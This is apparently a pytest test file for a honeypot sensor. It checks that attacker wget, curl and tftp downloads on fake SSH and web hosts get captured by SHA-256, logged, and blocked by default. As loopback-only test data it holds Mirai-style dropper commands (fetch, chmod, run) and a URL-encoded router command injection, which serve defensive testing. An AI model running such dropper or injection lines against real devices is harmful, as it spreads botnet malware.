"""Downloads in the fake host: wget/curl fetch for real when the config allows it (here: loopback only),
the file is stored by SHA-256 under artifacts/ and reported; the default config contacts nothing."""
import hashlib
import http.server
import os
import subprocess
import shutil
import socket
import threading
import time

import pytest

from conftest import Sensor, free_port_base, wait_for

BASE = """
honeypots:
  trap:
    enabled: false
  telnet:
    enabled: false
  ssh:
    tcp_ports: [2222]
    hostname: web01
    auth_rules: ["root:123456", "*:!*"]
    accept_after: 0
"""
ALLOW_LOOPBACK = BASE + """    downloads:
      enabled: true
      allow_private: true
      max_bytes: 1MiB
"""


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """A loopback HTTP server with a fake ELF 'malware' sample; records every request path."""
    root = tmp_path_factory.mktemp("www")
    sample = b"\x7fELF\x01\x01\x01" + os.urandom(20_000)
    (root / "bins").mkdir()
    (root / "bins" / "mirai.x86").write_bytes(sample)
    seen = []

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a, **kw):
            super().__init__(*a, directory=str(root), **kw)

        def do_GET(self):
            seen.append((self.path, self.headers.get("User-Agent")))
            return super().do_GET()

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1], sample, seen
    httpd.shutdown()


def ssh(port, command):
    return subprocess.run(["sshpass", "-p", "123456", "ssh", "-p", str(port), "-o", "StrictHostKeyChecking=no",
                           "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no",
                           "root@127.0.0.1", command], capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)


def test_wget_and_curl_fetch_store_and_report(tmp_path, served):
    port, sample, seen = served
    sha = hashlib.sha256(sample).hexdigest()
    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
    try:
        url = f"http://127.0.0.1:{port}/bins/mirai.x86"
        r = ssh(2222 + s.offset, f"cd /tmp; wget {url}; chmod +x mirai.x86; ls -l mirai.x86; sha256sum mirai.x86")
        assert f"{sha}  mirai.x86" in r.stdout, r.stdout + r.stderr
        assert f" {len(sample)} " in r.stdout, "the file has the served size in the session filesystem"
        e = wait_for(lambda: [x for x in s.events(event="file.download") if x.get("url") == url], 10)
        assert e and e[0]["sha256"] == sha and e[0]["size"] == len(sample), s.events(event="file.download")
        stored = os.path.join(s.data, "artifacts", "sha256", sha[:2], sha)
        assert wait_for(lambda: os.path.exists(stored), 5), "sample not stored by sha256"
        with open(stored, "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == sha
        assert os.stat(stored).st_mode & 0o111 == 0, "a captured sample is never executable"
        r = ssh(2222 + s.offset, f"curl -s -o /tmp/c {url}; md5sum /tmp/c")
        assert hashlib.md5(sample).hexdigest() in r.stdout, r.stdout + r.stderr
        assert ("/bins/mirai.x86", "Wget/1.21.3") in seen and ("/bins/mirai.x86", "curl/7.88.1") in seen
    finally:
        s.stop()


def test_default_config_fetches_nothing(tmp_path, served):
    port, _, seen = served
    before = len(seen)
    s = Sensor(tmp_path, BASE, free_port_base(), worker="ssh").start()
    try:
        r = ssh(2222 + s.offset, f"wget http://127.0.0.1:{port}/bins/mirai.x86")
        assert r.returncode != 0 and "failed" in r.stderr, r.stderr
        assert wait_for(lambda: s.events(event="command.input"), 10)
        assert s.events(event="file.download") == []
        failed = wait_for(lambda: s.events(event="file.download.failed"), 10)
        assert failed and failed[0]["url"] == f"http://127.0.0.1:{port}/bins/mirai.x86" and failed[0]["message"] == "refused"
        assert len(seen) == before, "downloads are off by default: the server must not be contacted"
    finally:
        s.stop()


@pytest.fixture(scope="module")
def tftpd(tmp_path_factory):
    """tftp-hpa's server on loopback serving one sample."""
    if not os.path.exists("/usr/sbin/in.tftpd") or os.geteuid() != 0:
        pytest.skip("needs root and Debian's tftpd-hpa")
    root = tmp_path_factory.mktemp("tftproot")
    os.chmod(root, 0o755)
    sample = b"\x7fELF\x01\x01\x01" + os.urandom(3000)  # several 512-byte blocks
    (root / "mirai.arm7").write_bytes(sample)
    os.chmod(root / "mirai.arm7", 0o644)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    proc = subprocess.Popen(["/usr/sbin/in.tftpd", "-L", "-u", "nobody", "-s", str(root), "-a", f"127.0.0.1:{port}"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    yield port, sample
    proc.terminate()
    proc.wait()


def test_tftp_fetch_from_a_real_tftpd(tmp_path, tftpd):
    port, sample = tftpd
    sha = hashlib.sha256(sample).hexdigest()
    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
    try:
        # busybox's form, as Mirai loaders use it, then tftp-hpa's.
        r = ssh(2222 + s.offset, f"cd /tmp; tftp -g -r mirai.arm7 127.0.0.1 {port}; sha256sum mirai.arm7; "
                                 f"tftp 127.0.0.1 {port} -c get mirai.arm7 copy; ls -l copy")
        assert f"{sha}  mirai.arm7" in r.stdout, r.stdout + r.stderr
        assert f" {len(sample)} " in r.stdout
        e = wait_for(lambda: [x for x in s.events(event="file.download") if x.get("url", "").startswith("tftp://")], 10)
        assert e and e[0]["sha256"] == sha and e[0]["url"] == f"tftp://127.0.0.1:{port}/mirai.arm7"
    finally:
        s.stop()


WEB = """
honeypots:
  trap:
    enabled: false
  telnet:
    enabled: false
  ssh:
    enabled: false
  web:
    tcp_ports: [8080]
    https_ports: []
"""
WEB_FETCHING = WEB + """    downloads:
      enabled: true
      allow_private: true
      max_bytes: 1MiB
"""


def inject(port, served_port, marker):
    """A Realtek/GPON-style command injection (URL-encoded, as bots send it) naming the loopback dropper."""
    cmd = f"cd /tmp;wget http://127.0.0.1:{served_port}/bins/mirai.x86 -O m;sh m {marker}"
    return subprocess.run(["curl", "-sS", "--max-time", "10", "-A", "Hello, World", "--data-urlencode", f"cmd={cmd}",
                           f"http://127.0.0.1:{port}/cgi-bin/ViewLog.asp"], capture_output=True, timeout=30)


def test_web_attack_url_is_seen_fetched_once_and_stored(tmp_path, served):
    port, sample, seen = served
    sha = hashlib.sha256(sample).hexdigest()
    dropper = f"http://127.0.0.1:{port}/bins/mirai.x86"
    s = Sensor(tmp_path, WEB_FETCHING, free_port_base(), worker="web").start()
    try:
        before = len([p for p, _ in seen if p == "/bins/mirai.x86"])
        assert inject(8080 + s.offset, port, "first").returncode == 0
        urls = wait_for(lambda: [e for e in s.events(event="url.seen") if e.get("url") == dropper], 10)
        assert urls and urls[0]["message"] == "in body" and "cmd_injection" in urls[0]["attack"]["categories"], urls
        got = wait_for(lambda: [e for e in s.events(event="file.download") if e.get("url") == dropper], 15)
        assert got and got[0]["sha256"] == sha and got[0]["size"] == len(sample) and got[0]["honeypot"] == "web", got
        assert got[0]["session"] == urls[0]["session"] and got[0]["filename"] == "mirai.x86"
        stored = os.path.join(s.data, "artifacts", "sha256", sha[:2], sha)
        with open(stored, "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == sha
        req = [e for e in s.events(event="http.request") if e["session"] == urls[0]["session"]]
        assert req and req[0]["http"]["client"] == "attacker" and len(req[0]["http"]["client_session"]) == 16
        # The same dropper sprayed again: recorded again, fetched once.
        assert inject(8080 + s.offset, port, "second").returncode == 0
        assert wait_for(lambda: len([e for e in s.events(event="url.seen") if e.get("url") == dropper]) == 2, 10)
        time.sleep(0.5)
        assert len([p for p, _ in seen if p == "/bins/mirai.x86"]) == before + 1
        assert len(s.events(event="file.download")) == 1
    finally:
        s.stop()


def test_web_default_config_records_the_url_but_contacts_nothing(tmp_path, served):
    port, _, seen = served
    before = len(seen)
    s = Sensor(tmp_path, WEB, free_port_base(), worker="web").start()
    try:
        assert inject(8080 + s.offset, port, "off").returncode == 0
        assert wait_for(lambda: s.events(event="url.seen"), 10)
        time.sleep(0.5)
        assert s.events(event="file.download") == [] and s.events(event="file.download.failed") == []
        assert len(seen) == before, "web downloads are off by default: the server must not be contacted"
    finally:
        s.stop()
